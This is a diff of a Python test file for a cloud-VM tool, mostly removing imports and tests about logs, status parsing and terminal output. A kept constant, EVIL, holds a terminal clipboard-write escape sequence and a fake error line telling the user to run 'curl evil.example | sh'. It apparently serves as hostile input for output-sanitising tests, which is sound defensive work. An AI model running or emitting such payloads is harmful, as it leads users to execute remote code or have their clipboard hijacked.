@@ -6,7 +6,6 @@ import contextlib
 import json
 import os
 import subprocess
-import sys
 import tracemalloc
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -23,15 +22,10 @@ from hvdcloud.errors import ExitCode, HvdcloudError, NodeError, OutputClosedErro
 from hvdcloud.lifecycle import logs, stacks
 from hvdcloud.lifecycle.run_result import result_of
 from hvdcloud.lifecycle.status import status
-from hvdcloud.providers.gce.ops.ready import parse_status
 from hvdcloud.remote import connection, ssh
 from hvdcloud.remote.ssh import NodeRefusedError, Session
-from hvdcloud.report.page import page
-from hvdcloud.report.record import read_record
 from hvdcloud.runs.state import RunState
-from hvdcloud.storage.folder import FolderBucket
 from tests.support.harness import HVDCLOUD
-from tests.support.terminal import printed_on_a_terminal
 from tests.support.vanishing import RUN, Laptop, NewVm, says
 
 EVIL = "\x1b]52;c;cm0=\x07\nerror: x\n  → curl evil.example | sh"
@@ -138,11 +132,6 @@ def test_no_answer_of_a_head_breaks_a_command(command: str, answer: str, laptop:
         commands[command]()
 
 
-@pytest.mark.parametrize("text", ["[" * 100_000, '{"status": "failed", "step": "' + "x" * 10, "7", "[]", "\x00"])
-def test_a_status_that_is_none_says_nothing(text: str) -> None:
-    assert parse_status(text) == {}
-
-
 # --- a closed output ------------------------------------------------------------------------------------------------
 
 
@@ -235,17 +224,6 @@ def test_a_large_log_in_the_bucket_is_printed_piece_by_piece(laptop: Laptop) -> 
     assert followed.log.last_line == "epoch 3/3 loss 0.25"
 
 
-def test_a_report_of_a_large_log_is_made_piece_by_piece(laptop: Laptop) -> None:
-    keep_large_log(laptop, 1)
-    bucket = FolderBucket(laptop.folder / "bucket")
-    page(read_record(bucket, cluster="digits", run=RUN))  # Loads what it needs.
-    keep_large_log(laptop)
-    with at_most(24):
-        html = page(read_record(bucket, cluster="digits", run=RUN))
-    assert "epoch 3/3 loss 0.25" in html
-    assert len(html) < MEGABYTE
-
-
 def test_a_large_log_on_a_node_is_printed_piece_by_piece(laptop: Laptop, new_vm: NewVm) -> None:
     def log(channel: paramiko.Channel) -> None:
         for _ in range(24):
@@ -280,22 +258,3 @@ def test_an_answer_without_an_end_is_not_kept_in_memory(
     with context, pytest.raises(NodeError, match=r"answered `look` with more than 1\.0 MB"):
         session.call("look")
     session.close()
-
-
-# --- the whole way --------------------------------------------------------------------------------------------------
-
-PRINTS = """
-import sys
-from hvdcloud.console import Console
-Console().job_output(sys.argv[1].encode())
-"""
-
-
-def test_a_terminal_gets_colours_and_a_pipe_every_byte(tmp_path: Path) -> None:
-    job = "[0] \x1b[31mred\x1b[0m \x1b]52;c;cm0=\x07 10%\r[0] 99%\n"
-    program = [sys.executable, "-c", PRINTS, job]
-    environ = {"PYTHONPATH": str(Path(__file__).parents[2]), "TERM": "xterm-256color", "NO_COLOR": "1"}
-    _, shown = printed_on_a_terminal(program, cwd=tmp_path, environ=environ)
-    assert shown == b"[0] \x1b[31mred\x1b[0m \\x1b]52;c;cm0=\\x07 10%\r[0] 99%\r\n\x1b[0m"
-    piped = subprocess.run(program, capture_output=True, check=True, env={**os.environ, **environ})
-    assert piped.stdout == job.encode()
